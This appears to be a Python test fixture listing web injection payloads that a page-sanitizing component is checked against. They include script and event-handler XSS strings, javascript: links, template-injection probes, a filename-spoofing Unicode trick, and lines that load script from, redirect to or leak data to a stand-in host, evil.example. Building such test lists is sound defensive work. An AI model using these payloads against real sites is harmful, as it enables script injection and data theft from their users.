"""What somebody might write, be called or sell so that a page runs it. Each would set the title, open a dialog or leave."""

ATTACKS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc=\"<script>top.document.title='owned'</script>\"></iframe>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=\"javascript:document.title='owned'\">press me</a>",
    "[press me](javascript:alert(1)) ![x](x\" onerror=\"alert(1))",
    "javascript:alert(document.domain)",
    "\"><input autofocus onfocus=alert(1)>",
    "'-alert(1)-'",
    "</p></li></ol><script src=https://evil.example/x.js></script>",
    "<math><mtext></table><mglyph><style><img src onerror=alert(1)></style></mglyph></mtext></math>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><button>send</button></form>",
    "<style>*{background:url(https://evil.example/leak)}</style>",
    "{{7*7}} ${7*7} #{7*7} {% debug %} <%= 7*7 %>",
    "\u202e\u2066<b>txt.exe</b>\u2069",
    "<!--<img src=--><img src=x onerror=alert(1)>-->",
)  # fmt: skip
